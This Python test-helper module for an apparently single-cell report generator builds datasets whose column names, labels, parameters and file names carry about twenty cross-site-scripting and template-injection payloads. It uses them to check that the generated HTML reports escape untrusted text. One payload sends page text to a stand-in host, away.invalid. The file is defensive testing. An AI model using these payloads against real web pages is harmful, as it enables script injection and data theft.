"""Texts that would run, load or open something if a page took them as markup, and data full of them."""

import numpy as np
import pandas as pd

from report_cells import make_cells
from scbatchprox import refine, report

#: What a text does if it runs, and where it leads if it leads anywhere.
RUN, AWAY = "window.ran=1", "http://away.invalid/"
#: One text for each way to become markup, code, or a field of a template.
ATTACKS = {
    "image": f'<img src=x onerror="{RUN}">',
    "navigation": f"<img src=x onerror=\"location='{AWAY}?'+document.body.innerText\">",
    "drawing": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "script": f"<script>{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script><script>",
    "end of other elements": f"</title></style></option></select></textarea><img src=x onerror={RUN}>",
    "comment": f"--><img src=x onerror={RUN}><!--<script>",
    "link": f'<a href="javascript:{RUN}" onclick="{RUN}">click</a>',
    "focus": f"<input autofocus onfocus={RUN}><details open ontoggle={RUN}>",
    "double quotes": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="1',
    "single quotes": f"' onmouseover='{RUN}' onfocus='{RUN}' autofocus tabindex='1",
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data={AWAY}>',
    "form": f"<base href={AWAY}><form action={AWAY}><button autofocus>go</button></form>",
    "style": f'</style><style>*{{display:none}}</style><link rel=stylesheet href="{AWAY}">',
    "entities": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "json": f"\\u003cimg src=x onerror={RUN}\\u003e\\\"'\u2028\u2029+{RUN}//",
    "template": "{{ 7 * 7 }}{% raw %}${" + RUN + "}#{" + RUN + "}<%= 1 %>",
    "tooltip": f"@batch{{safe}} @{{type}}{{safe}} $index $swatch:batch <img src=x onerror={RUN}>",
    "mathematics": f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(x\\) <img src=x onerror={RUN}>",
}
#: The same places with nothing in them.
HARMLESS = "plain"


def attacked(text, n=120):
    """Cells with a text in every name and value; the columns of batches, of types, and of what to keep."""
    plain = make_cells(n, batches=["a", "b", "c"], types=["T", "B"])
    columns = [f"{what} {text}" for what in ("batch", "type", "keep")]
    labels = [plain.obs[name].astype(str) + text for name in ("batch", "type", "sex")]
    plain.obs = pd.DataFrame(dict(zip(columns, labels, strict=True)))
    return plain, columns


def refined_page(text):
    """A report of a refinement in the data, whose record has the text wherever a record can have one."""
    cells, (batch, kind, keep) = attacked(text)
    names = {"use_rep": f"X {text}", "key_added": f"R {text}"}
    cells.obsm[names["use_rep"]] = cells.obsm.pop("X_pca")
    refine(cells, batch, keep=keep, **names)
    record = cells.uns[names["key_added"]]
    table = pd.DataFrame(record["diagnosis"])
    # The record has no "/" in names of columns; a stranger's may.
    table.columns = [name.replace(keep.replace("/", "|"), keep) for name in table]
    table["verdict"] = f"move with care: {text}"
    table["reasons"] = text
    table[f"{text} confounded"], table[f"{text} removed"] = 0.5, 0.25
    record["diagnosis"] = table
    record["params"] = dict(record["params"]) | {f"p {text}": text}
    html = report(cells, batch, label_key=kind, keep=keep, view="pca", **names)
    assert "was in the data" in html
    assert "made again" not in html
    return html


def file_page(text, folder):
    """A report of a file with the text as its name."""
    cells, (batch, kind, keep) = attacked(text)
    table = pd.DataFrame(np.asarray(cells.obsm["X_pca"]), columns=[f"PC{i}" for i in range(6)])
    path = folder / f"{text.replace('/', '|')[:200]}.csv"
    table.assign(**{name: cells.obs[name].to_numpy() for name in cells.obs}).to_csv(path)
    return report(path, batch, label_key=kind, keep=keep, view="pca", target="population")
